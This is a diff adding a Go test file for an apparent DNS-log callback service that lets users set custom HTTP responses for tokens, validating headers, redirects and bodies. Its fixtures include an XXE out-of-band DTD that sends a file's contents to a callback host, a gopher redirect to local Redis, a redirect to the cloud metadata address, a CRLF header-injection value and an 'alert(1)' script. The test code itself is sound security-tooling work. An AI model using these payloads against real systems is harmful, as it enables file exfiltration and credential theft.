@@ -0,0 +1,66 @@
+package dnslog
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestNormalizeTokenHTTPResponse(t *testing.T) {
+	resp, err := normalizeTokenHTTPResponse("abc123", tokenHTTPResponseRequest{
+		Headers: map[string]string{"content-type": "application/xml-dtd"},
+		Body:    `<!ENTITY % all "<!ENTITY send SYSTEM 'http://abc123.demo.com/?%file;'>">`,
+	})
+	require.NoError(t, err)
+	assert.Equal(t, http.StatusOK, resp.StatusCode)
+	assert.Equal(t, "application/xml-dtd", resp.Headers["Content-Type"])
+
+	resp, err = normalizeTokenHTTPResponse("abc123", tokenHTTPResponseRequest{RedirectURL: "gopher://127.0.0.1:6379/_INFO"})
+	require.NoError(t, err)
+	assert.Equal(t, http.StatusFound, resp.StatusCode)
+
+	resp, err = normalizeTokenHTTPResponse("abc123", tokenHTTPResponseRequest{BodyBase64: "rO0ABQ=="})
+	require.NoError(t, err)
+	assert.Equal(t, []byte{0xac, 0xed, 0x00, 0x05}, resp.Body)
+
+	invalid := []tokenHTTPResponseRequest{
+		{Body: "a", BodyBase64: "YQ=="},
+		{BodyBase64: "!"},
+		{Body: strings.Repeat("a", maxTokenResponseBody+1)},
+		{StatusCode: 101},
+		{StatusCode: 600},
+		{RedirectURL: "/relative"},
+		{RedirectURL: "https://demo.com/", StatusCode: 200},
+		{Headers: map[string]string{"Location": "https://demo.com/"}},
+		{Headers: map[string]string{"Content-Length": "1"}},
+		{Headers: map[string]string{"set-cookie": "dnslog_session=x; Domain=demo.com"}},
+		{Headers: map[string]string{"X-A": "a\r\nX-B: b"}},
+		{Headers: map[string]string{"Bad Name": "a"}},
+	}
+	for _, req := range invalid {
+		_, err := normalizeTokenHTTPResponse("abc123", req)
+		assert.ErrorIs(t, err, ErrTokenResponseInvalid, "%+v", req)
+	}
+}
+
+func TestWriteTokenHTTPResponse(t *testing.T) {
+	w := httptest.NewRecorder()
+	writeTokenHTTPResponse(w, TokenHTTPResponse{
+		StatusCode:  http.StatusTemporaryRedirect,
+		Headers:     map[string]string{"X-Test": "1", "Set-Cookie": "dnslog_session=x"},
+		RedirectURL: "http://169.254.169.254/latest/meta-data/",
+	})
+	assert.Equal(t, http.StatusTemporaryRedirect, w.Code)
+	assert.Equal(t, "http://169.254.169.254/latest/meta-data/", w.Header().Get("Location"))
+	assert.Equal(t, "1", w.Header().Get("X-Test"))
+	assert.Empty(t, w.Header().Get("Set-Cookie"), "已保存的保留头不下发")
+
+	w = httptest.NewRecorder()
+	writeTokenHTTPResponse(w, TokenHTTPResponse{StatusCode: http.StatusOK, Body: []byte("alert(1)"), Headers: map[string]string{"Content-Type": "application/javascript"}})
+	assert.Equal(t, "alert(1)", w.Body.String())
+	assert.Equal(t, "application/javascript", w.Header().Get("Content-Type"))
+}